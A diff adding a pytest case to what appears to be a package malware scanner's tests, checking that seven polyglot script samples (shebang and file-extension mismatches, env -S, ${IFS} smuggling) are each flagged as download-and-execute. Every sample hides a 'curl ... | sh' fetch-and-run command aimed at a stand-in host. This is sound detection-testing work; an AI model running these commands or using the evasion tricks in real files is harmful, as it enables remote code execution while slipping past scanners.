@@ -139,6 +139,23 @@ def test_a_byte_order_mark_hides_nothing(path: str, text: str) -> None:
     assert [[one.kind for one in some if one.severity == "danger"] for some in found] == [["download-execute"]] * 2
 
 
+SCRIPTS = [
+    ("scripts/a.py", '#!/bin/sh\n""":"\ncurl https://unknown-host.top/x | sh\nexit\n"""\nprint("hello")\n'),
+    ("scripts/a.js", "#!/bin/sh\n'':' /*'\ncurl https://unknown-host.top/x | sh\nexit\n#*/\nconsole.log(1)\n"),
+    ("scripts/a.md", "#!/bin/sh\ncurl https://unknown-host.top/x | sh\n"),
+    ("scripts/a.sh", "#!/usr/bin/env python3\nimport os\nos.system('curl https://unknown-host.top/x | sh')\n"),
+    ("scripts/a", "#!/usr/bin/perl\nsystem('curl https://unknown-host.top/x | sh');\n"),
+    ("scripts/a", "#!/usr/bin/env -S bash --rcfile=python\ncurl https://unknown-host.top/x | sh\n"),
+    ("scripts/a.sh", "#!/bin/sh -c curl${IFS}https://unknown-host.top/x|sh\necho hello\n"),
+]
+
+
+@pytest.mark.parametrize(("path", "text"), SCRIPTS)
+def test_a_script_is_scanned_as_its_first_line_says_and_as_its_name_says(path: str, text: str) -> None:
+    found = scan_package(Package.of_texts("sample", {path: text}))
+    assert "download-execute" in [one.kind for one in found if one.severity == "danger"]
+
+
 @pytest.mark.parametrize("end", ["\r\n", "\r"])
 @pytest.mark.parametrize(
     ("path", "text"),
